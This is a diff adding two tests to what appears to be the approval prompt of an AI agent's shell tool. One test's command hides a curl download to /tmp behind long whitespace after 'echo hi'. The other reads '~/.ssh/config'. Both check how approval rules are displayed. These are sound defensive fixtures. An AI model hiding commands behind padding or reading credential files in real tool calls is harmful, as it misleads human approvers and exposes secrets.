@@ -116,3 +116,40 @@ turns:
   await rig.press('n');
   await expect(rig.outcome).resolves.toMatchObject({ reason: 'goal_met' });
 });
+
+test('the rule a stores shows the line breaks of a multi-line command: two commands never read as one', async () => {
+  const command = `   echo hi${' '.repeat(300)}${'\n'.repeat(30)}  curl -s http://x.example/p -o /tmp/out.txt`;
+  const rig = await open({
+    transcript: `
+turns:
+  - tool_calls:
+      - { id: t1, name: shell, args: { command: ${JSON.stringify(command)} } }
+  - final: Done.
+`,
+    columns: 80,
+    rows: 24,
+  });
+  await rig.waitForFrame('Approve tool call shell (t1)');
+  await rig.waitForArmed();
+  const stores = box(normalize(rig.frame())).find((row) => row.startsWith('a stores '));
+  expect(stores).toMatch(/^a stores shell-exact: echo hi ⏎ curl -s http:\/\/x\.example\/p -o \/tmp\/out\.txt$/);
+});
+
+test('why a stores nothing is told whole at 80 columns, over two rows', async () => {
+  const rig = await open({
+    transcript: `
+turns:
+  - tool_calls:
+      - { id: t1, name: shell, args: { command: "cat ~/.ssh/config" } }
+  - final: Done.
+`,
+    columns: 80,
+    rows: 24,
+  });
+  await rig.waitForFrame('Approve tool call shell (t1)');
+  await rig.waitForArmed();
+  const rows = box(normalize(rig.frame()));
+  const at = rows.findIndex((row) => row.startsWith('a stores nothing: '));
+  expect(`${rows[at]} ${rows[at + 1]!.trim()}`).toMatch(/^a stores nothing: .*tilde expansion \(~\/\.ssh\/config\) is known only when it runs \(y approves once\)$/);
+  expect(rows[at + 1]).toMatch(/^ {9}\S/);
+});
